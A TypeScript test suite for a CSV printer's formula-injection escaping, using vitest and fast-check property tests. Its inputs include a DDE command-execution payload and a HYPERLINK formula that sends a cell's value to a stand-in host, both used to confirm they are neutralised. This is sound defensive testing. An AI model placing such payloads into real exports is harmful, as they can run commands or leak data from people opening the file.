import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { printCsv, unmarked } from './csv.ts'

const cells = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' })
const cell = (value: string | number | null) => cells(printCsv([[value, 'end']]))[0]?.[0]

describe('what a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+1+1',
    '-1+1',
    "-1+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=HYPERLINK("https://elsewhere.example?"&A1,"Open")',
    "'=1+1",
    '+44 1235 422422',
    '--1',
    '-1;=1+1',
  ])('%j stays text', (text) => {
    expect(cell(text)).toBe(`'${text}`)
  })

  test.each(['-12', '-1,234.5', '+3', '-0.5%', '-', '-.5', '12'])('%s is no formula and stays as it is', (text) => {
    expect(cell(text)).toBe(text)
  })

  test('a number is a number, and nothing is an empty cell', () => {
    expect(printCsv([[-12.5, null, '', 'a,b', 'c;d']])).toBe('-12.5,,,"a,b","c;d"\r\n')
  })
})

test('Whatever is printed and read again is what it was, however often', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1 }),
    fc.stringMatching(/^['=+\-@\t\r\n;,"0-9A]{1,12}$/).filter((made) => made !== ''),
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (rows) => {
      const read = cells(printCsv(rows)).map((row) => row.map(unmarked))
      expect(read).toEqual(rows)
      expect(printCsv(read)).toBe(printCsv(rows))
    }),
    { numRuns: 500 },
  )
})

test('No cell that is printed starts a formula', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[=+\-@\t\r＝＋－＠][ -~]{0,20}$/), (text) => {
      const printed = String(cell(text))
      expect(printed).toMatch(/^'|^[+-]?[\d,.]*%?$/)
    }),
  )
})
